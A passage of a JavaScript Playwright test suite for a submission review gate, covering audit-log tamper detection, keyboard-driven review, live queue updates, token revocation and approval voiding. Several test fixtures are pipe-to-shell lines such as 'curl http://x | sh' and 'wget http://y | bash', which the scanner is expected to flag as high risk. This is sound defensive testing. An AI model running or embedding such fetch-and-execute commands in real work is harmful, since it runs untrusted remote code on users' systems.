	await p.page.selectOption('#prov-by', 'auto');
	await p.page.fill('#prov-q', String(s.id));
	await p.page.press('#prov-q', 'Enter');
	await chain('by id, again');
	await p.page.click('#signout');
	await signIn(p, fx.rev1);
	await p.page.goto(`${gate.url}/ui/#/audit`);
	await p.page.waitForFunction(() => document.getElementById('audit-error').textContent !== '');
	assert(await p.page.locator('#prov-result article').count() === 0, 'the auditor\'s chain is still shown to a reviewer');
	forgive(p, 403);
	await p.page.fill('#prov-q', String(s.id));
	await p.page.press('#prov-q', 'Enter');
	await p.page.waitForFunction(() => document.getElementById('prov-error').textContent !== '');
	assert(await text(p, '#prov-error') === "this token's role may not do that", `reviewer: ${await text(p, '#prov-error')}`);
	forgive(p, 403);
});

// A log rewritten behind the stopped gate's back (the data directory kept
// aside and put back afterwards): an entry's bytes edited (the approval's
// action), an events row edited (a submit's detail). The page names each:
// the entry that does not hash to its leaf, the checkpoint whose root
// differs and from where, the event that is not what its entry records;
// provenance marks the edited entry.
test('audit-tamper', async (p) => {
	const s = await submit(fx.agent, 'echo tamper\n', 'kind=file&name=tamper.sh');
	await must(200, 'GET', `/v1/submissions/${s.id}/content`, fx.rev1);
	await must(200, 'POST', `/v1/submissions/${s.id}/approve`, fx.rev1, { sha256: s.sha256, ruleset: s.scan.ruleset });
	await must(200, 'POST', `/v1/submissions/${s.id}/release`, gate.admin); // a checkpoint covers it
	await stopGate(true);
	const aside = join(gate.dir, 'data.aside');
	cpSync(gate.data, aside, { recursive: true });
	let idx, evIdx, evId;
	try {
		idx = Number(sqlite(`SELECT l.idx FROM audit_leaves l JOIN events e ON e.id = l.event_id WHERE e.action = 'approve' AND e.submission_id = ?`, s.id));
		sqlite("UPDATE audit_leaves SET entry = CAST(replace(CAST(entry AS TEXT), 'action approve', 'action approvE') AS BLOB) WHERE idx = ?", idx);
		evId = Number(sqlite("SELECT id FROM events WHERE action = 'submit' AND submission_id = ?", fx.patch.id));
		evIdx = Number(sqlite('SELECT idx FROM audit_leaves WHERE event_id = ?', evId));
		sqlite("UPDATE events SET detail = 'nothing to see' WHERE id = ?", evId);
		await serveGate();
		await signIn(p, fx.aud);
		const verdict = await verifyInPage(p);
		const first = Math.min(idx, evIdx);
		assert(verdict.startsWith(`DOES NOT VERIFY: at entry ${first}: `), `verdict: ${verdict}`);
		const fails = await p.page.locator('#verify-failures li').allInnerTexts();
		const has = (re, why) => assert(fails.some((f) => re.test(f)), `${why}: ${JSON.stringify(fails)}`);
		has(new RegExp(`^entry ${idx}: entry ${idx} does not hash to the leaf hash the gate stores for it \\(the entry or the hash was edited\\)$`), 'the edited entry');
		has(new RegExp(`^entry ${idx}: event \\d+ is not what entry ${idx} records \\(the event row was edited\\?\\): action is 'approvE' in the entry, 'approve' in the event$`), 'the edited entry against its event');
		has(new RegExp(`^entry ${evIdx}: event ${evId} is not what entry ${evIdx} records \\(the event row was edited\\?\\): detail is 'sha256=${fx.patch.sha256} size=\\d+' in the entry, 'nothing to see' in the event$`), 'the edited event');
		has(/^entry \d+: the root of the first \d+ entries differs from checkpoint #\d+ \(served\): an entry from \d+ to \d+ is not what it signed$/, 'a signed root');
		const range = fails.map((f) => /differs from checkpoint #\d+ \(served\): an entry from (\d+) to (\d+)/.exec(f)).find(Boolean);
		assert(Number(range[1]) <= idx && idx <= Number(range[2]), `the range ${range[1]}-${range[2]} does not hold entry ${idx}`);
		if (SHOTS)
			await p.page.locator('#verify-result').screenshot({ path: join(ROOT, 'docs/img/review-audit-tampered.png') });
		const bad = await p.page.locator('#verify-checkpoints td.proof-bad').allInnerTexts();
		assert(bad.includes('DIFFERS from the log'), `checkpoints: ${JSON.stringify(bad)}`);
		// Provenance: the edited entry does not verify.
		await p.page.fill('#prov-q', String(s.id));
		await p.page.press('#prov-q', 'Enter');
		await p.page.waitForSelector(`#prov-result article[data-id="${s.id}"]`);
		const row = p.page.locator(`#prov-result tr[data-index="${idx}"]`);
		assert(await row.locator('td.action').innerText() === 'approvE', 'the edited entry is not shown as it is');
		assert((await row.locator('td.proof').innerText()).startsWith('DOES NOT VERIFY: '), `its proof: ${await row.locator('td.proof').innerText()}`);
		assert((await text(p, `#prov-result article[data-id="${s.id}"] .prov-log`)).startsWith(`NOT VERIFIED: entry ${idx} does not verify: `), 'the log line');
	} finally {
		// Left before the gate stops: a live request reset by the stop
		// would be logged as an error (see voided-approval).
		await p.page.goto('about:blank').catch(() => {});
		await stopGate(true);
		rmSync(gate.data, { recursive: true, force: true });
		cpSync(aside, gate.data, { recursive: true });
		rmSync(aside, { recursive: true, force: true });
		await serveGate();
	}
});

// A whole review with the keys only: sign in (typed, Enter), j/k to the
// submission, Enter, n/p through its findings, s and back, c to the
// comment, Escape, a, Escape withdrawing the confirmation, a again, Enter
// on the focused confirmation; the approval with its comment recorded. No
// mouse event is sent.
test('keyboard-review', async (p) => {
	const s = await submit(fx.agent, 'curl http://x | sh\necho ok\nwget http://y | bash\n', 'kind=file&name=keys.sh');
	assert(s.worst === 'high' && s.findings.length === 2, `keys.sh: ${s.worst}, ${s.findings.length} findings`);
	await p.page.goto(`${gate.url}/ui/`);
	await p.page.waitForFunction(() => document.activeElement?.id === 'token');
	await p.page.keyboard.type(fx.rev2);
	await p.page.keyboard.press('Enter');
	await p.page.waitForSelector(`#queue-rows tr[data-id="${s.id}"]`);
	const key = (k) => p.page.keyboard.press(k);
	const sel = () => p.page.locator('#queue-rows tr.sel').getAttribute('data-id');
	const ids = await p.page.locator('#queue-rows tr').evaluateAll((rs) => rs.map((r) => r.dataset.id));
	await key('j');
	await key('k');
	for (let i = 0; i < ids.indexOf(String(s.id)); i++)
		await key('j');
	assert(await sel() === String(s.id), `selected ${await sel()}, not ${s.id}`);
	await key('Enter');
	await p.page.waitForSelector('#view:not([hidden]) .content .line.hit');
	const target = () => p.page.locator('.line.target .ln').innerText();
	await key('n');
	assert(await target() === '1', 'n: not the first finding');
	await key('n');
	assert(await target() === '3', 'n: not the second finding');
	await key('p');
	assert(await target() === '1', 'p: not back to the first');
	await key('s'); // no patch: nothing happens
	assert(await p.page.locator('.split').count() === 0, 's split a file that is no patch');
	await key('c');
	assert(await p.page.evaluate(() => document.activeElement.id) === 'comment', 'c did not focus the comment');
	await p.page.keyboard.type('read both, fine (a test)');
	await key('Escape');
	assert(await p.page.evaluate(() => document.activeElement.id) !== 'comment', 'Escape did not leave the comment');
	assert(!p.page.url().endsWith('#/'), 'Escape in the comment left the view');
	await key('a');
	assert(await p.page.locator('#confirm').isVisible(), 'no confirmation for a high finding');
	assert(await p.page.evaluate(() => document.activeElement.id) === 'confirm', 'the confirmation is not focused');
	await key('Escape');
	assert(await p.page.locator('#confirm').isHidden(), 'Escape did not withdraw the confirmation');
	assert(p.page.url().endsWith(`#/s/${s.id}`), 'Escape left the view instead');
	decidedNothing(p);
	await key('a');
	await key('Enter');
	await p.page.waitForFunction(() => /approvals 1 of 2/.test(document.querySelector('.decision')?.textContent || ''));
	const ev = await must(200, 'GET', `/v1/submissions/${s.id}/events`, gate.admin);
	const ap = ev.events.filter((e) => e.action === 'approve');
	assert(ap.length === 1 && ap[0].actor === 'rev-2', `approvals: ${JSON.stringify(ap)}`);
	const d = await must(200, 'GET', `/v1/submissions/${s.id}`, gate.admin);
	assert(JSON.stringify(d).includes('read both, fine (a test)'), 'the comment was not recorded');
	await key('u');
	await p.page.waitForSelector('#queue:not([hidden])');
});

// waiting(N): the gate holds exactly N requests to GET /v1/changes (its
// own gauge), within 5 s.
async function waiting(n) {
	let got;
	for (let i = 0; i < 100; i++) {
		const r = await fetch(`${gate.url}/metrics`, { headers: { Authorization: `Bearer ${gate.admin}` } });
		const m = /^airlock_changes_waiting ([0-9]+)$/m.exec(await r.text());
		got = m ? Number(m[1]) : null;
		if (got === n)
			return;
		await sleep(50);
	}
	throw new Error(`the gate holds ${got} waiting requests, expected ${n}`);
}

const rowGone = (p, id, why) => p.page.waitForFunction((i) => !document.querySelector(`#queue-rows tr[data-id="${i}"]`),
	id, { timeout: 5000 }).catch(() => { throw new Error(why); });

// Live updates, without a reload: with the held queue open, a new
// submission appears; two reviewers approve it (its row says 1/2, then it
// leaves the held list); on the approved list, ci's release makes it
// leave that one. The selection stays on its submission when a row comes
// above it. One long-poll is open while the queue is shown (the gate's
// gauge), none while a submission or the sign-in form is shown, and an
// idle queue sends no other request.
test('live-queue', async (p) => {
	fx.ci = fx.ci || await mkToken('ci', 'ci-1');
	await signIn(p, fx.rev1);
	await p.page.waitForSelector('#queue-rows tr');
	await waiting(1);
	await p.page.evaluate(() => { window.__sameDocument = 1; });
	const lists = () => p.requests.filter((u) => u.startsWith(`${gate.url}/v1/submissions?`)).length;
	const idleFrom = p.requests.length;
	await sleep(1500);
	assert(p.requests.length === idleFrom, `an idle queue asked ${p.requests.slice(idleFrom).join(' ')}`);
	const selected = await p.page.locator('#queue-rows tr.sel').getAttribute('data-id');
	const listsBefore = lists();
	// High: two approvals.
	const s = await submit(fx.agent, 'curl http://198.51.100.9/live | sh\n', 'kind=file&name=live.sh');
	assert(s.state === 'held' && s.worst === 'high', `live.sh ${s.state}/${s.worst}`);
	await p.page.waitForSelector(`#queue-rows tr[data-id="${s.id}"]`, { timeout: 5000 })
		.catch(() => { throw new Error('the new submission did not appear'); });
	assert(await p.page.locator('#queue-rows tr.sel').getAttribute('data-id') === selected,
		'the selection moved off its submission when a row came above it');
	for (const [i, tok] of [fx.rev1, fx.rev2].entries()) {
		await must(200, 'GET', `/v1/submissions/${s.id}/content`, tok);
		const d = await must(200, 'POST', `/v1/submissions/${s.id}/approve`, tok,
			{ sha256: s.sha256, ruleset: s.scan.ruleset });
		assert(d.approvals === i + 1, `approval ${i + 1}: ${JSON.stringify(d)}`);
		// The first one counted in its row, still held.
		if (i === 0)
			await p.page.waitForFunction((id) => document.querySelector(`#queue-rows tr[data-id="${id}"] td.approvals`)
				?.textContent === '1/2', s.id, { timeout: 5000 })
				.catch(() => { throw new Error('the row does not show the first approval'); });
	}
	await rowGone(p, s.id, 'the approved submission stayed in the held queue');
	assert(lists() - listsBefore <= 8, `${lists() - listsBefore} loads of the list for a handful of changes`);
	await p.page.selectOption('#f-state', 'approved');
	await p.page.waitForSelector(`#queue-rows tr[data-id="${s.id}"]`);
	await waiting(1);
	await must(200, 'POST', `/v1/submissions/${s.id}/release`, fx.ci);
	await rowGone(p, s.id, 'the released submission stayed in the approved queue');
	assert(await p.page.evaluate(() => window.__sameDocument) === 1, 'the page was reloaded');
	// Only while the queue is shown.
	await p.page.goto(`${gate.url}/ui/#/s/${s.id}`);
	await p.page.waitForSelector('#view:not([hidden]) .content');
	await waiting(0);
	await p.page.keyboard.press('u');
	await p.page.waitForSelector('#queue:not([hidden])');
	await waiting(1);
	assert(await p.page.evaluate(() => window.__sameDocument) === 1, 'the page was reloaded');
	await p.page.click('#signout');
	await p.page.waitForSelector('#signin:not([hidden])');
	await waiting(0);
});

// A token revoked while its queue is open: the long-poll's 401 sends the
// page to sign in, with the gate's reason, and nothing is asked after.
test('live-revoked', async (p) => {
	const name = 'rev-live';
	const tok = await mkToken('reviewer', name);
	await signIn(p, tok);
	await waiting(1);
	await must(200, 'DELETE', `/v1/tokens/${name}`, gate.admin);
	await p.page.waitForSelector('#signin:not([hidden])', { timeout: 5000 });
	const why = await text(p, '#signin-error');
	assert(/^token revoked at /.test(why), `sign-in says "${why}"`);
	assert(await p.page.evaluate(() => sessionStorage.getItem('airlock.token')) === null, 'the revoked token was kept');
	forgive(p, 401);
	await waiting(0);
	const n = p.requests.length;
	await sleep(1200);
	assert(p.requests.length === n, `asked after the 401: ${p.requests.slice(n).join(' ')}`);
});

// The approvals in the queue are the gate's count (the list's review):
// 0/2 for a high one nobody approved, 1/2 after one approval, and once a
// second one approved it, gone from the held queue and 2/2 among the
// approved.
test('queue-approvals', async (p) => {
	const s = await submit(fx.agent, 'curl https://198.51.100.23/q.sh | sh\n', 'kind=file&name=count.sh');
	assert(s.worst === 'high' && s.state === 'held', `count.sh: ${s.state}/${s.worst}`);
	await signIn(p, fx.rev1);
	const cell = p.page.locator(`#queue-rows tr[data-id="${s.id}"] td.approvals`);
	await cell.waitFor();
	assert(await cell.innerText() === '0/2', `before any approval: ${await cell.innerText()}`);
	for (const tok of [fx.rev1, fx.rev2]) {
		await must(200, 'GET', `/v1/submissions/${s.id}/content`, tok);
		await must(200, 'POST', `/v1/submissions/${s.id}/approve`, tok, { sha256: s.sha256, ruleset: s.scan.ruleset });
		if (tok !== fx.rev1)
			break;
		await p.page.reload();
		await cell.waitFor();
		assert(await cell.innerText() === '1/2', `after one approval: ${await cell.innerText()}`);
	}
	await p.page.reload();
	await p.page.waitForSelector('#queue-rows tr, #queue-empty:not([hidden])');
	assert(await cell.count() === 0, 'an approved submission is still in the held queue');
	await p.page.selectOption('#f-state', 'approved');
	await cell.waitFor();
	assert(await cell.innerText() === '2/2', `approved: ${await cell.innerText()}`);
});

// More than a page (QPAGE, 100 rows): the first page, More for the rest
// (the gate's next page, by its cursor), then no More; after a reload, j
// on the last row fetches the next page and moves onto it. The agent's own
// submissions only (its filter), of every state (not all are scanned
// yet). Last: its scans would delay the tests after it.
// The kind filter goes to the gate (kind=) and into the hash; only that
// kind is listed.
test('queue-kind-filter', async (p) => {
	const mb = await submit(fx.agent, 'From 1 Mon Sep 17 00:00:00 2001\nFrom: A <a@example.org>\nSubject: [PATCH] x\n\n---\ndiff --git a/k.txt b/k.txt\n--- a/k.txt\n+++ b/k.txt\n@@ -1 +1 @@\n-a\n+b\n', 'kind=mbox&name=kind.mbox');
	assert(mb.kind === 'mbox', `kind ${mb.kind}`);
	await signIn(p, fx.rev1);
	await p.page.goto(`${gate.url}/ui/#/?state=all`);
	await p.page.waitForSelector(`#queue-rows tr[data-id="${mb.id}"]`);
	await p.page.selectOption('#f-kind', 'mbox');
	await p.page.waitForFunction(() => location.hash === '#/?state=all&kind=mbox');
	await p.page.waitForFunction(() => Array.from(document.querySelectorAll('#queue-rows tr')).every((r) => r.cells[4].textContent === 'mbox'));
	const ids = await p.page.locator('#queue-rows tr').evaluateAll((rs) => rs.map((r) => r.dataset.id));
	assert(ids.includes(String(mb.id)), `the mailbox is not listed: ${ids}`);
	assert(p.requests.some((u) => u.includes('/v1/submissions?kind=mbox&')), 'kind= was not asked of the gate');
	const all = await must(200, 'GET', '/v1/submissions?kind=mbox&limit=1000', gate.admin);
	assert(all.submissions.length === ids.length, `${ids.length} rows, the gate has ${all.submissions.length} mailboxes`);
});

// settled(): once no submission is received or scanning (40 s at most).
async function settled() {
	for (let i = 0; i < 400; i++) {
		const q = await must(200, 'GET', '/v1/submissions?state=received&limit=1', gate.admin);
		const r = await must(200, 'GET', '/v1/submissions?state=scanning&limit=1', gate.admin);
		if (!q.submissions.length && !r.submissions.length)
			return;
		await sleep(100);
	}
	throw new Error('submissions still scanning after 40 s');
}

test('queue-more', async (p) => {
	const tok = await mkToken('agent', 'agent-m', 'carol');
	const ids = [];
	for (let i = 0; i < 102; i++)
		ids.push((await must(201, 'POST', `/v1/submissions?kind=file&name=m${i}.txt`, tok, Buffer.from(`m = ${i}\n`))).id);
	ids.reverse(); // newest first
	// The scans finished first: each result moves the live queue, which
	// would race the keys below.
	await settled();
	await signIn(p, fx.rev1);
	await p.page.goto(`${gate.url}/ui/#/?state=all&agent=agent-m`);
	await queueIs(p, ids.slice(0, 100), 'the first page');
	assert(await p.page.locator('#queue-more').isVisible(), 'no More with more to come');
	await p.page.click('#queue-more');
	await queueIs(p, ids, 'the first page and the next');
	assert(await p.page.locator('#queue-more').isHidden(), 'More after the last page');
	assert(p.requests.some((u) => /\/v1\/submissions\?agent=agent-m&sort=newest&limit=100&cursor=n[0-9]+$/.test(u)),
		'the next page was not asked with the cursor');
	await p.page.reload();
	await queueIs(p, ids.slice(0, 100), 'the first page again');
	const sel = () => p.page.locator('#queue-rows tr.sel').getAttribute('data-id');
	for (let i = 0; i < 99; i++)
		await p.page.keyboard.press('j');
	assert(await sel() === String(ids[99]), `j 99 times: ${await sel()}`);
	await p.page.keyboard.press('j');
	await queueIs(p, ids, 'j past the last row');
	await p.page.waitForFunction((w) => document.querySelector('#queue-rows tr.sel')?.dataset.id === w, String(ids[100]));
});

// A rescan under rules that find more voids an approval: the page says whose
// and why, and counts it no longer. Keep it the last test: it reloads the
// gate's rules, so every held submission is scanned again under a new rule
// set (the test waits until all are settled).
test('voided-approval', async (p) => {
	const s = await submit(fx.agent, 'curl http://x | sh # ZZMARKERZZ\n', 'kind=file&name=marker.sh');
	await must(200, 'GET', `/v1/submissions/${s.id}/content`, fx.rev1);
	await must(200, 'POST', `/v1/submissions/${s.id}/approve`, fx.rev1, { sha256: s.sha256, ruleset: s.scan.ruleset });
	await signIn(p, fx.rev2);
	await p.page.goto(`${gate.url}/ui/#/s/${s.id}`);
	await p.page.waitForSelector('#approved-by li');
	const by = await text(p, '#approved-by');
	assert(by.startsWith('rev-1 at 20'), `approved by: ${by}`);
	assert(await p.page.locator('#voided').count() === 0, 'a voided list before any rescan');
	// A reload restarts the gate (an exec): the page's live connection
	// would be reset, which the browser logs as an error whenever a request
	// is in flight then (it failed a CI run under load). The page is left
	// meanwhile and opened again on the new gate.
	await p.page.goto('about:blank');
	writeFileSync(join(gate.rules, 'marker.yml'), [
		'rules:', '  - id: test-marker', '    title: A marker added by a reload (UI test)',
		'    category: obfuscation', '    severity: medium', "    pattern: 'ZZMARKERZZ'",
		'    description: >', '      Added after the approval.', '    examples:',
		"      match: ['echo ZZMARKERZZ']", "      ignore: ['echo nothing']", ''].join('\n'));
	await must(202, 'POST', '/v1/rules/reload', gate.admin, {});
	let d = null;
	for (let i = 0; i < 400; i++) {
		await sleep(50);
		try {
			const busy = (await api('GET', '/v1/submissions?state=received', gate.admin)).json.submissions.length +
				(await api('GET', '/v1/submissions?state=scanning', gate.admin)).json.submissions.length;
			d = (await api('GET', `/v1/submissions/${s.id}`, gate.admin)).json;
			if (busy === 0 && d.state === 'held' && d.scan.ruleset !== s.scan.ruleset)
				break;
		} catch { /* the gate is restarting */ }
		d = null;
	}
	assert(d !== null, 'not rescanned under the new rules within 20 s');
	await p.page.goto(`${gate.url}/ui/#/s/${s.id}`);
	await p.page.waitForSelector('#voided li');
	const v = await text(p, '#voided');
	assert(v.startsWith('rev-1 at 20') && v.includes('no longer counts') &&
		v.includes('found 1 finding that one did not show'), `voided: ${v}`);
	assert(/approvals 0 of 2/.test(await text(p, '#standing')), `standing: ${await text(p, '#standing')}`);
	assert(await p.page.locator('#approved-by').count() === 0, 'a voided approval is listed as counting');
});
